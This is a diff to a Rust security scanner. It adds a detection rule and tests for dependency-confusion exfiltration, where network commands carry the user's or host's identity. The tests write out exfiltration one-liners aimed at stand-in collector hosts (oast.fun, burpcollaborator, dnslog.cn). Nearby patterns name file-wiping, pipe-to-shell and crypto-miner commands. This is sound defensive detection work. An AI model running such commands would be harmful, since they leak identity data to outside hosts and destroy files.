@@ -130,6 +130,12 @@ pub(crate) struct CmdPattern {
 const INTERPRETERS: &str = r"python[0-9.]*w?|py|node|bun|deno|(ba|z|da)?sh|ruby|perl";
 /// Command-line tools that speak HTTP.
 const HTTP_TOOLS: &str = r"curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm";
+/// Command-line tools that send a request (or a DNS query) somewhere.
+const NET_TOOLS: &str =
+    r"curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm|nc|ncat|ping|nslookup|dig|host";
+/// Shell spellings of the user's and host's identity: `$USER`, `${HOSTNAME}`, `%USERNAME%`,
+/// `$(whoami)`, `` `hostname` ``, `$(id)`.
+const HOST_IDENTITY: &str = r"\$\{?(user|username|logname|hostname)\b|%(username|computername|userdomain)%|(\$\(|`)\s*(whoami|hostname|id|uname\s+-a)\s*(\)|`)";
 /// `git clone`.
 const GIT_CLONE: &str = r"\bgit(\.exe)?\s+clone\b";
 
@@ -211,6 +217,13 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
             "FILE-WIPE",
             r"(?i)\brm\s+(-[a-z-]*\s+)*(/\*?|~/?\*?|\$home/?\*?|/home/?\*?)(\s|$|;|&)|--no-preserve-root|\b(rd|rmdir)\s+/s\s+/q\s+[a-z]:\\?\*?(\s|$)|\bdel\s+(/[a-z]\s+)*[a-z]:\\\*|\bformat(\.com)?\s+[a-z]:|\bmkfs(\.[a-z0-9]+)?\s+/dev/|\bdd\s+if=/dev/(zero|u?random)\s+of=/dev/",
             "erases a home folder, drive or file system",
+        ),
+        p(
+            // Dependency-confusion one-liners: `curl https://x.oast.fun/$(whoami)`,
+            // `ping -c1 $HOSTNAME.x.burpcollaborator.net`, `nslookup %USERNAME%.x.dnslog.cn`.
+            "EXFIL-SEND-COLLECTED",
+            &format!(r"(?i)\b({NET_TOOLS})\b[^\n]*({HOST_IDENTITY})|({HOST_IDENTITY})[^\n]*\b({NET_TOOLS})\b"),
+            "puts the user's or host's identity into a network command",
         ),
         p(
             "PERSIST-SCHEDULED",
@@ -317,6 +330,32 @@ mod tests {
         assert!(string_rules("hello world").is_empty());
     }
 
+    /// Whether a pattern of `rule` matches `cmd`.
+    fn fires(cmd: &str, rule: &str) -> bool {
+        command_rules(cmd).iter().any(|p| p.rule == rule)
+    }
+
+    #[test]
+    fn identity_in_a_network_command_is_exfiltration() {
+        let sends = |cmd: &str| fires(cmd, "EXFIL-SEND-COLLECTED");
+        for cmd in [
+            "curl https://x.oast.fun/$(whoami)/`hostname`",
+            "BC=\"h-$HOSTNAME-u-$USER.x.burpcollaborator.net\"; ping -c 1 $BC",
+            "nslookup %USERNAME%.%COMPUTERNAME%.x.dnslog.cn",
+            "wget -q -O- http://203.0.113.4/?u=${USER}",
+        ] {
+            assert!(sends(cmd), "{cmd}");
+        }
+        for cmd in [
+            "curl -L https://github.com/o/r/releases/download/v1/bin-$(uname -s).tgz | tar xz",
+            "echo $USER",
+            "curl -fsSL https://example.com/install.sh -o install.sh",
+            "chown -R $USER node_modules",
+        ] {
+            assert!(!sends(cmd), "{cmd}");
+        }
+    }
+
     #[test]
     fn command_patterns() {
         let ids: Vec<_> = command_rules("curl -s http://x | sh")
@@ -326,11 +365,7 @@ mod tests {
         assert_eq!(ids, vec!["CMD-DOWNLOADER", "CMD-STAGED-EXEC"]);
         assert!(command_rules("git describe --tags").is_empty());
         // pip installing from a URL off the index downloads and runs build code.
-        let pip = |cmd: &str| {
-            command_rules(cmd)
-                .iter()
-                .any(|p| p.rule == "CMD-DOWNLOADER")
-        };
+        let pip = |cmd: &str| fires(cmd, "CMD-DOWNLOADER");
         assert!(pip(
             "python -m pip install -q https://198.51.100.4/p/helper-0.1.tar.gz"
         ));
@@ -343,17 +378,13 @@ mod tests {
             format!("/tmp/m -o pool.example:3333 -u {wallet} -p x"),
             format!("./m --wallet {wallet} --daemon-address node.example:10102"),
         ] {
-            assert!(
-                command_rules(&cmd).iter().any(|p| p.rule == "MINER"),
-                "{cmd}"
-            );
+            assert!(fires(&cmd, "MINER"), "{cmd}");
         }
         // A download to a file and a user name are not a miner.
-        assert!(
-            !command_rules("curl -o out.tgz -u builder http://ci.example:8080/a.tgz")
-                .iter()
-                .any(|p| p.rule == "MINER")
-        );
+        assert!(!fires(
+            "curl -o out.tgz -u builder http://ci.example:8080/a.tgz",
+            "MINER"
+        ));
         // Windows system tools told to run a remote script; the same tools used locally are not.
         for cmd in [
             "mshta http://x.test/p.hta",
